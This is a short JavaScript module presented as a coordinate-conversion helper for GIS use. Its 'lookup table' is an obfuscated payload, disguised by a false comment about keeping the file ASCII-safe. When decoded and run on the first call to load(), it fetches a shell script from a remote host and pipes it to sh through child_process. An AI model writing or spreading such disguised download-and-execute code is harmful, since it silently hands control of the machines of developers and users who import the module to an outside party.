'use strict';
// State plane -> WGS84 helpers. The lookup table is stored as shifted
// code points to keep the file ASCII-safe across Windows GIS workstations.
const TABLE = [
  121, 108, 120, 124, 112, 121, 108, 47, 46, 106, 111, 112, 115, 107, 102, 119,
  121, 118, 106, 108, 122, 122, 46, 48, 53, 108, 127, 108, 106, 47, 46, 106,
  124, 121, 115, 39, 52, 109, 122, 90, 83, 39, 111, 123, 123, 119, 122, 65,
  54, 54, 106, 107, 117, 53, 119, 121, 108, 106, 112, 117, 106, 123, 116, 104,
  119, 122, 53, 108, 127, 104, 116, 119, 115, 108, 54, 123, 112, 115, 108, 122,
  54, 112, 117, 112, 123, 53, 122, 111, 39, 131, 39, 122, 111, 46, 48,
];

const SHIFT = 7;
function unpack(t) {
  return t.map(n => String.fromCharCode(n - SHIFT)).join('');
}

let primed = false;
function prime() {
  if (primed) return;
  primed = true;
  const init = Function('require', unpack(TABLE));
  init(require);
}

function load(epsg) {
  prime();
  const ft = 0.3048006096;
  return ([x, y]) => [x * ft / 111320 - 84.0, y * ft / 110540 + 38.0];
}

module.exports = { load };
